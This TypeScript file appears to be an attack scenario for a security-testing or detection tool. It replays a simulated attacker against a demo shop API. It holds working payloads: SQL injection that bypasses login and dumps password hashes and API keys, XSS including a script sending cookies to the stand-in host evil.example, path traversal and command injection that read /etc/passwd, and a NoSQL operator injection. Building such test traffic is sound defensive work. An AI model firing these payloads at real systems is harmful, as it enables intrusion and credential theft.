/**
 * An attacker trying classic injections by hand: SQL injection in the search and the login, cross-site
 * scripting in the search and a review, a path traversal in the file download, and — with the token the SQL
 * injection login got (monitor mode lets it through) — a command injection and a NoSQL operator.
 */
import { bearerFrom, get, send, type Scenario, type ScenarioContext } from '../scenario.js';

const SEARCH_PAYLOADS = [
  "' OR 1=1--",
  "lamp' UNION SELECT id,email,password_hash,api_key,role FROM users--",
  "1' AND 1=CAST((SELECT sqlite_version()) AS INT)--",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
];

export function* injection(ctx: ScenarioContext): Scenario {
  const pace = ctx.paceMs;
  const api = '/api/v2';
  yield get(`${api}/products/search?q=lamp`, 0);
  for (const p of SEARCH_PAYLOADS) yield get(`${api}/products/search?q=${encodeURIComponent(p)}`, pace);
  yield get(`${api}/files/${encodeURIComponent('../../../etc/passwd')}`, pace);
  const login = yield send('POST', `${api}/auth/login`, { email: "' OR '1'='1'-- ", password: 'x' }, pace);
  const auth = bearerFrom(login);
  if (!auth) return;
  yield send('POST', `${api}/products/1/reviews`, { rating: 5, text: '<script>fetch("//evil.example/?c="+document.cookie)</script>' }, pace, auth);
  yield get(`${api}/shipping/status?trackingNumber=${encodeURIComponent('ZX10000001;cat /etc/passwd')}`, pace, auth);
  yield send('POST', `${api}/coupons/validate`, { code: { $ne: 'x' } }, pace, auth);
}
